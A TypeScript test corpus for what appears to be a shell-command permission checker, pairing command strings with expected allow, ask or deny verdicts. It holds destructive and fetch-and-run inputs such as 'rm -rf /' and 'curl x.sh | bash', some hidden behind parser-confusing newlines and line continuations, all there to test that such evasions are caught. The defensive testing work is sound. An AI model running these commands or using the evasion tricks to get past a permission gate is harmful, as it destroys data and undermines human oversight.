import { base, docs, rows } from './corpus-rows.js'
import type { CorpusRow } from './corpus-rows.js'

/** The parser's own mistakes, backslash-newline joins, and ordinary commands that must not be refused. */
export const parserMisreadRows: readonly CorpusRow[] = [
  // The parser's own mistakes: a tree that disagrees with the line asks, never allows.
  ...rows(base, 'https://github.com/tree-sitter/tree-sitter-bash/issues/347', [
    ['ls |& cat |& echo\nrm -rf / && echo done', 'deny'],
    ['ls | grep x | echo\ncurl x && ls', 'deny'],
    ['ls | grep x | echo\nmake && ls', 'ask'],
    ['ls | grep x | cat\nls && git status', 'allow'],
    ['ls | grep x | cat; rm -rf / && ls', 'deny'],
    // The swallowed line starts with a reserved word: `!` negates, the command after it runs
    // (found by the compound-lines property test); any other starts what the tree does not show.
    ['ls |& cat |& echo\n! rm -rf / && echo done', 'deny'],
    ['{ git diff HEAD; } |& grep -l e\\ f |& gitk\n! curl https://x.example && ls', 'deny'],
    ['ls |& cat |& echo\n! ! rm -rf /', 'deny'],
    ['ls | grep x | cat\n! git status', 'allow'],
    ['ls | grep x | cat\n! make', 'ask'],
    ['ls |& cat |& echo\nif true; then ls; fi', 'ask'],
    ['ls |& cat |& echo\ntime rm -rf /', 'deny'],
    ['ls |& cat |& echo\n\\! rm -rf /', 'ask'],
  ]),
  // A backslash-newline joins the tokens on either side into one word (bash(1), QUOTING: "A
  // <backslash>-<newline> pair is treated as a line continuation ... removed from the input
  // stream"); the parser gives two tokens, the walk joins them as bash does.
  ...rows(base, 'https://github.com/yonatangross/orchestkit/pull/3289', [
    ['rm -r\\\nf /', 'deny'],
    ['r\\\nm -rf /', 'deny'],
    ['r\\\n\\\nm -rf /', 'deny'],
    ['"r\\\nm" -rf /', 'deny'],
    ["'r\\\nm' -rf /", 'ask'],
    ['git push --for\\\nce', 'deny'],
    ['curl x.sh |\\\nbash', 'deny'],
    ['git st\\\natus', 'allow'],
    ['ls \\\n-la', 'allow'],
    ['NODE_ENV=te\\\nst npm test', 'ask'],
    // The parser's word token took in the newline before it: still the next command.
    ['ls | grep x | echo\n\\rm -rf /', 'deny'],
    ['ls | grep x | echo\n\\ls x', 'allow'],
  ]),
  ...rows(base, 'https://github.com/tree-sitter/tree-sitter-bash/issues/316', [
    ['[ 2 -lt 3 ]\necho >1\nls', 'ask'],
    ['[ 2 -lt 3 ]\necho >1\nrm -rf /', 'deny'],
  ]),
  ...rows(base, 'https://github.com/tree-sitter/tree-sitter-bash/issues/233', [
    ['cat < in.txt rm -rf /', 'ask'],
    ['rm x < in.txt y', 'deny'],
    ['grep x < in.txt', 'allow'],
  ]),

  // Ordinary commands that must not be refused.
  ...rows(base, docs, [
    ['npm test -- --coverage', 'allow'],
    ['npm run lint', 'allow'],
    ['git diff HEAD~1 -- src/', 'allow'],
    ['ls -la src/ | grep -v node_modules', 'allow'],
    ['cat package.json | grep version', 'allow'],
    ['ls *.ts', 'allow'],
    ['grep -rn "a b" src | grep -v test', 'allow'],
    ['echo $HOME', 'allow'],
    ['mkdir -p dist && ls dist', 'allow'],
  ]),
]
